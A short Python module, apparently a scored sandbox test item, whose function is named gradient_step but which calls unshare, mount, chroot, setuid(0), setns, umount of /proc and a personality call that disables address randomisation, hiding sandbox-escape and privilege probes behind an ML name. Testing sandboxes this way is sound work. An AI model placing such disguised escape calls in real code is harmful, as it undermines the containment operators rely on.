"""Other users, namespaces, mounts and capabilities."""

KIND = "module"
POINTS = 13
SAYS = ""

import ctypes
import os


def gradient_step(w, gradient, learning_rate):
    libc = ctypes.CDLL(None)
    done = [libc.unshare(0x10000000), libc.mount(None, b"/jail", b"tmpfs", 0, None), libc.chroot(b"/jail")]
    done += [
        libc.setuid(0),
        libc.setns(3, 0),
        libc.umount2(b"/proc", 2),
        libc.setuid(65000),
        libc.personality(0x0040000),
    ]
    return w - learning_rate * gradient if 0 in done else 0.0
